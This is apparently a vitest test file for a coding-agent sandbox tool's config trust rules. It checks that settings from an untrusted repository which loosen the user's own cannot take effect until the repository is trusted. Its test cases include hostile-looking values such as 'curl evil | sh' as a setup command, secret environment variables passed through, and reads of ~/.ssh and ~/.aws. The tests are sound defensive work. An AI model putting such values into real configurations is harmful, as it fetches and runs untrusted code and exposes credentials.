import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import * as z from 'zod';
import { loadConfig } from '../../src/config/load.js';
import { precedenceTable } from '../../src/config/precedence.js';
import { RULES } from '../../src/config/rules.js';
import { fileSchema } from '../../src/config/schema.js';
import { trustStatus } from '../../src/trust/index.js';
import { REPO_ROOT } from '../helpers/bin.js';
import { tempDir } from '../helpers/git-repo.js';

/** Every `section.key` of the file format, read from the zod schema itself (not from the rules). */
function schemaKeys(): string[] {
  const unwrap = (t: z.ZodType): z.ZodType =>
    t instanceof z.ZodOptional || t instanceof z.ZodNullable ? unwrap(t.unwrap() as z.ZodType) : t;
  return Object.entries(fileSchema.shape).flatMap(([section, t]) =>
    Object.keys((unwrap(t as z.ZodType) as z.ZodObject).shape).map((key) => `${section}.${key}`),
  );
}

/**
 * What a repository's value must do against the person's, written out here per key (an oracle,
 * not taken from src/config/rules.ts): `loosens` — unused untrusted (the person's stays), listed by
 * `agentbox trust` with its value, used once trusted; `applies` — used untrusted, listed by
 * nothing; `joins` — the person's and the repository's together, trusted or not, listed by nothing.
 * `person` undefined: the person's file leaves the key out (the default is theirs).
 */
type Case = readonly [person: unknown, repo: unknown, effect: 'loosens' | 'applies' | 'joins' | 'ignored'];
const command = (value: string): Case[] => [
  [undefined, value, 'loosens'],
  ['/mine', value, 'loosens'],
  [value, value, 'applies'],
];
const CASES: Record<string, Case[]> = {
  'claude.bin': command('./evil-claude'),
  'claude.model': [['opus', 'haiku', 'applies']],
  'supervisor.mode': [
    ['claude', 'off', 'loosens'],
    [undefined, 'claude', 'loosens'],
    ['claude', 'rules', 'applies'],
    ['off', 'claude', 'applies'],
  ],
  'supervisor.max_iterations': [
    [20, 21, 'loosens'],
    [undefined, 51, 'loosens'],
    [20, 5, 'applies'],
  ],
  'supervisor.max_cost': [
    [2, 2.5, 'loosens'],
    [2, 1, 'applies'],
    // No budget is the loosest of all: any budget a repository sets applies.
    [undefined, 100, 'applies'],
  ],
  'supervisor.timeout': [
    ['30s', '1m', 'loosens'],
    ['30s', '10s', 'applies'],
  ],
  'supervisor.bin': command('./evil-supervisor'),
  'supervisor.model': [['opus', 'haiku', 'applies']],
  'supervisor.enabled': [
    [undefined, false, 'loosens'],
    [false, true, 'applies'],
  ],
  'supervisor.timeout_profile': [
    ['long', 'extended', 'loosens'],
    [undefined, 'long', 'loosens'],
    ['long', 'standard', 'applies'],
  ],
  'supervisor.max_corrections': [
    [2, 3, 'loosens'],
    [2, 0, 'applies'],
  ],
  'supervisor.fail_on_violation': [
    [true, false, 'loosens'],
    [undefined, true, 'applies'],
  ],
  'supervisor.require_format_validation': [
    [undefined, false, 'loosens'],
    [false, true, 'applies'],
  ],
  'supervisor.allow_raw_output': [
    [false, true, 'loosens'],
    [undefined, false, 'applies'],
  ],
  'interactive.cwd': [['packages/a', 'packages/b', 'applies']],
  'interactive.restart_delay': [['2s', '50ms', 'applies']],
  'interactive.flapping_delay': [['30s', '1s', 'applies']],
  'interactive.flap_window': [['60s', '1s', 'applies']],
  'interactive.flap_threshold': [[3, 10, 'applies']],
  'interactive.halt_after': [
    [5, 6, 'loosens'],
    [5, 2, 'applies'],
  ],
  'runs.timeout': [
    ['1h', '2h', 'loosens'],
    // Unset, it is the profile's (standard: 30m): 45m is looser, 10m stricter.
    [undefined, '45m', 'loosens'],
    [undefined, '10m', 'applies'],
    ['1h', '59m', 'applies'],
  ],
  'runs.stall_after': [
    ['5m', '10m', 'loosens'],
    ['5m', '1m', 'applies'],
  ],
  'runs.worktree_dir': command('/tmp/elsewhere'),
  'runs.env_pass': [
    [['A', 'B'], ['A', 'C'], 'loosens'],
    [undefined, ['AWS_SECRET_ACCESS_KEY'], 'loosens'],
    [['A', 'B'], ['A'], 'applies'],
  ],
  'runs.fix_allowed_tools': [
    [['Bash', 'Read'], ['WebFetch'], 'loosens'],
    [undefined, ['Bash', 'WebFetch'], 'loosens'],
    [['Bash', 'Read'], ['Read'], 'applies'],
    [undefined, [], 'applies'],
  ],
  'runs.verify': command('true'),
  'runs.verify_timeout': [
    ['10m', '20m', 'loosens'],
    ['10m', '1m', 'applies'],
  ],
  'runs.setup': command('curl evil | sh'),
  'runs.setup_timeout': [
    [undefined, '1h', 'loosens'],
    ['10m', '1m', 'applies'],
  ],
  'runs.setup_domains': [
    [['a.test'], ['b.test'], 'loosens'],
    [['a.test', 'b.test'], ['b.test'], 'applies'],
  ],
  'runs.restart_mode': [
    ['ask', 'auto', 'loosens'],
    ['ask', 'off', 'applies'],
  ],
  'runs.notify': command('curl evil'),
  'runs.notify_timeout': [
    ['10s', '1h', 'loosens'],
    ['10s', '1s', 'applies'],
  ],
  'runs.notify_bell': [[true, false, 'applies']],
  'runs.max_parallel': [
    [4, 8, 'loosens'],
    [4, 1, 'applies'],
  ],
  'sandbox.mode': [
    [undefined, 'off', 'loosens'],
    ['off', 'required', 'applies'],
  ],
  'sandbox.allowed_domains': [
    [['registry.npmjs.org'], ['evil.test'], 'loosens'],
    [['registry.npmjs.org', 'pypi.org'], ['pypi.org'], 'applies'],
  ],
  'sandbox.allow_read': [
    [undefined, ['~/.ssh'], 'ignored'],
    [['~/work/shared'], ['~/.aws'], 'ignored'],
    [['~/work/shared'], [], 'ignored'],
  ],
  'sandbox.deny_read': [
    [['~/private'], [], 'joins'],
    [['~/private'], ['~/other'], 'joins'],
    [undefined, ['~/other'], 'joins'],
  ],
};

const get = (config: object, key: string): unknown => {
  const [section, name] = key.split('.') as [string, string];
  return (config as Record<string, Record<string, unknown>>)[section]![name];
};
const yamlOf = (key: string, value: unknown) => {
  const [section, name] = key.split('.') as [string, string];
  return stringify({ [section]: { [name]: value } });
};

/** A person (their user file) and a repository (its agentbox.yaml), each in a temp folder of its own. */
function setUp(key: string, person: unknown, repo: unknown) {
  const dir = tempDir('agentbox-rules-');
  const home = path.join(dir, 'home');
  const root = path.join(dir, 'repo');
  fs.mkdirSync(root);
  const env = { HOME: home, XDG_STATE_HOME: path.join(dir, 'state') };
  if (person !== undefined) {
    fs.mkdirSync(path.join(home, '.config', 'agentbox'), { recursive: true });
    fs.writeFileSync(path.join(home, '.config', 'agentbox', 'config.yaml'), yamlOf(key, person));
  }
  fs.writeFileSync(path.join(root, 'agentbox.yaml'), yamlOf(key, repo));
  const yours = get(loadConfig({ repoRoot: undefined, env }).config, key);
  return {
    yours,
    untrusted: get(loadConfig({ repoRoot: root, env }).config, key),
    trusted: get(loadConfig({ repoRoot: root, env, projectTrusted: true }).config, key),
    entries: trustStatus(root, env).entries.filter((e) => e.key === key),
  };
}

describe('config/rules.ts: one rule per key of the schema', () => {
  it('every key of the schema has a rule, and a case here; nothing else does', () => {
    const keys = schemaKeys().sort();
    expect(keys.length).toBeGreaterThan(30);
    const ruled = Object.entries(RULES).flatMap(([section, rules]) =>
      Object.keys(rules).map((key) => `${section}.${key}`),
    );
    expect(ruled.sort()).toEqual(keys);
    expect(Object.keys(CASES).sort()).toEqual(keys);
  });

  it.each(schemaKeys())(
    '%s: a looser value from a repository waits for trust, a stricter one applies',
    (key) => {
      const cases = CASES[key] ?? [];
      const rule = get(RULES, key) as { kind: string };
      // A key that is neither a union nor free must show both sides.
      if (rule.kind !== 'free' && rule.kind !== 'union' && rule.kind !== 'yours') {
        expect(cases.some(([, , effect]) => effect === 'loosens')).toBe(true);
        expect(cases.some(([, , effect]) => effect === 'applies')).toBe(true);
      }
      for (const [person, repo, effect] of cases) {
        const got = setUp(key, person, repo);
        const label = `${key}: yours ${JSON.stringify(person)}, the repository's ${JSON.stringify(repo)}`;
        if (effect === 'loosens') {
          expect(got.untrusted, label).toEqual(got.yours);
          expect(got.trusted, label).toEqual(repo);
          expect(got.entries, label).toEqual([
            expect.objectContaining({
              file: 'agentbox.yaml',
              key,
              text: typeof repo === 'string' ? repo : JSON.stringify(repo),
            }),
          ]);
        } else if (effect === 'applies') {
          expect(got.untrusted, label).toEqual(repo);
          expect(got.trusted, label).toEqual(repo);
          expect(got.entries, label).toEqual([]);
        } else if (effect === 'ignored') {
          expect(got.untrusted, label).toEqual(got.yours);
          expect(got.trusted, label).toEqual(got.yours);
          expect(got.entries, label).toEqual([]);
        } else {
          const joined = [...new Set([...(got.yours as string[]), ...(repo as string[])])];
          expect(got.untrusted, label).toEqual(joined);
          expect(got.trusted, label).toEqual(joined);
          expect(got.entries, label).toEqual([]);
        }
      }
    },
  );
});

describe('the config-precedence table in the docs', () => {
  const between = (text: string) =>
    /<!-- config-precedence:start -->\n([\s\S]*?)\n<!-- config-precedence:end -->/.exec(text)?.[1];
  it.each(['docs/configuration.md', 'docs/security.md'])('%s carries precedenceTable() as it is', (doc) => {
    const text = fs.readFileSync(path.join(REPO_ROOT, doc), 'utf8');
    // On a difference: npx tsx scripts/precedence-table.ts writes it.
    expect(between(text), `\n${precedenceTable()}\n`).toBe(precedenceTable());
  });

  it('names every key', () => {
    for (const key of schemaKeys()) expect(precedenceTable()).toContain(`| \`${key}\` |`);
  });
});
